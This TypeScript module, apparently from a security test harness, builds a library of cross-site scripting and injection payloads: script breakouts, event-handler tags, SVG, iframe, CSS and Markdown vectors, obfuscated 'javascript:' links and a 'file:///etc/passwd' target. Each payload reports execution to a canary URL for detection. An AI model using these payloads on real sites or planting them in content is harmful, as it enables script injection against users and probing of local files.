/** Payloads: each reports its number to the console and to the canary server if it is run or loaded. */

export type Payload = { readonly name: string; readonly text: string };

/** Reported twice, because the console or the request may be blocked. */
const script = (canary: string, name: string) =>
  `console.log('octavo-ran ${name}');new Image().src='${canary}/ran/${name}'`;

type Maker = (js: string, url: string) => string;

const makers: Readonly<Record<string, Maker>> = {
  script: (js) => `<script>${js}</script>`,
  'script-src': (_, url) => `<script src="${url}"></script>`,
  'closed-title': (js) => `</title></style></textarea><script>${js}</script>`,
  'closed-comment': (js) => `--><script>${js}</script><!--`,
  'closed-cell': (js) => `</td></tr></table></p><script>${js}</script>`,
  'closed-attribute': (js) => `"><script>${js}</script>`,
  'closed-attribute-single': (js) => `' onmouseover='${js.replaceAll("'", '`')}' x='`,
  'image-error': (js) => `<img src=x onerror="${js}">`,
  'svg-load': (js) => `<svg onload="${js}"></svg>`,
  'svg-script': (js) => `<svg><script>${js}</script></svg>`,
  'svg-use': (_, url) => `<svg><use href="${url}#x"/><image href="${url}"/></svg>`,
  'math-link': (js) => `<math><mtext href="javascript:${js}">x</mtext></math>`,
  'body-load': (js) => `<body onload="${js}">`,
  'input-focus': (js) => `<input autofocus onfocus="${js}">`,
  'details-toggle': (js) => `<details open ontoggle="${js}">x</details>`,
  'style-animation': (js) =>
    `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${js}">x</b>`,
  iframe: (_, url) => `<iframe src="${url}"></iframe>`,
  'iframe-srcdoc': (js) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
  'iframe-javascript': (js) => `<iframe src="javascript:${js}"></iframe>`,
  object: (_, url) => `<object data="${url}"></object><embed src="${url}">`,
  refresh: (_, url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  base: (_, url) => `<base href="${url}/">`,
  'css-import': (_, url) => `<style>@import url("${url}");body{background:url("${url}")}</style>`,
  'css-link': (_, url) => `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}">`,
  'remote-image': (_, url) => `<img src="${url}" srcset="${url} 2x">`,
  'remote-media': (_, url) =>
    `<video src="${url}" poster="${url}" autoplay></video><audio src="${url}"></audio>`,
  form: (_, url) => `<form action="${url}"><button autofocus>x</button></form>`,
  encoded: (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  'encoded-number': (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  'markdown-link': (js) => `[x](javascript:${js.replaceAll(' ', '%20')})`,
  'markdown-image': (_, url) => `![x](${url})`,
  'markdown-autolink': (_, url) => `<${url}>`,
  'markdown-fence': (js) => `\`\`\` <script>${js}</script> \`\`\``,
  template: (js) => `{{constructor.constructor("${js.replaceAll('"', '')}")()}} \${${js}} <%= ${js} %>`,
  cdata: (js) => `<![CDATA[<script>${js}</script>]]>`,
};

/** Names include the place, so that a report shows where the payload came from. */
export function payloadsFor(place: string, canary: string): readonly Payload[] {
  return Object.entries(makers).map(([kind, make]) => {
    const name = `${place}.${kind}`;
    return { name, text: make(script(canary, name), `${canary}/loaded/${name}`) };
  });
}

/** Targets of links, as a document may have them. */
export function linkTargets(canary: string): readonly Payload[] {
  const js = script(canary, 'link');
  return [
    { name: 'javascript', text: `javascript:${js}` },
    { name: 'javascript-case', text: ` JaVaScRiPt:${js}` },
    { name: 'javascript-tab', text: `java\tscript:${js}` },
    { name: 'javascript-newline', text: `java\nscript:${js}` },
    { name: 'vbscript', text: 'vbscript:msgbox(1)' },
    { name: 'data-html', text: `data:text/html,<script>${js}</script>` },
    { name: 'data-svg', text: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>` },
    { name: 'breakout', text: `http://a.test/"><script>${js}</script>` },
    { name: 'breakout-markdown', text: `http://a.test/)<script>${js}</script>[x](javascript:${js}` },
    { name: 'file', text: 'file:///etc/passwd' },
    { name: 'remote', text: `${canary}/loaded/link.remote` },
  ];
}
